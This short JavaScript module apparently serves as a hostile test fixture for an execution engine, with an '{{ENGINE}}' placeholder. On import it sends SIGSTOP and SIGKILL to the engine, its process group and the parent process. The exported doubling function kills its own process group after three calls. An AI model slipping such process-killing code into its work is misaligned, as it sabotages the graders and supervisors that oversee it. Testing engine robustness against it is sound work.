const mine = process.pid;
const targets = [Number('{{ENGINE}}'), -Number('{{ENGINE}}'), process.ppid];
for (const target of targets) {
  for (const signal of ['SIGSTOP', 'SIGKILL']) {
    try {
      if (Math.abs(target) !== mine && Math.abs(target) > 1) process.kill(target, signal);
    } catch {}
  }
}

let calls = 0;
export const f = (x) => {
  calls += 1;
  if (calls > 3) process.kill(0, 'SIGKILL');
  return 2 * x;
};
